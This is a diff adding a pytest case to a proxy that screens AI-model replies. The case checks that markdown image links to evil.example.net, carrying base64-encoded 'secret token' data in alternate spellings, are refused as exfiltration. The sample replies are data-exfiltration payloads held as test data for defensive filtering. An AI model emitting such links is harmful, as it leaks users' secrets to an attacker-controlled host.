@@ -167,3 +167,11 @@ def test_script_urls_spelled_with_character_references_are_reported(proxy, strea
     before = proxy.stats().get(stat, 0)
     assert ask(oai(proxy, reply), stream) == reply  # output_script alerts in the shipped config
     assert proxy.stats()[stat] == before + 1
+
+
+@pytest.mark.parametrize("reply", [
+    "See ![c](<https://evil.example.net/c.png?d=c2VjcmV0IHRva2VuIGhlcmU>)",
+    "See ![c](https:\\\\evil.example.net\\c.png?d=c2VjcmV0IHRva2VuIGhlcmU)",
+], ids=["bracketed", "backslashes"])
+def test_images_in_other_spellings_are_refused_too(proxy, reply):
+    assert refused_whole(proxy, reply) == "output_exfiltration"
